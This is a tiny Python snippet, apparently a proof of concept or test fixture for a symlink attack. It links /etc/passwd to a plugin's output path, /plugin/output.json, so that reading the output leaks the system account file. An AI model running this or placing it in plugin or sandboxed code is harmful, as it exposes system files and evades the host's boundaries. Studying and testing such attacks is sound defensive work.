import os

os.symlink("/etc/passwd", "/plugin/output.json")
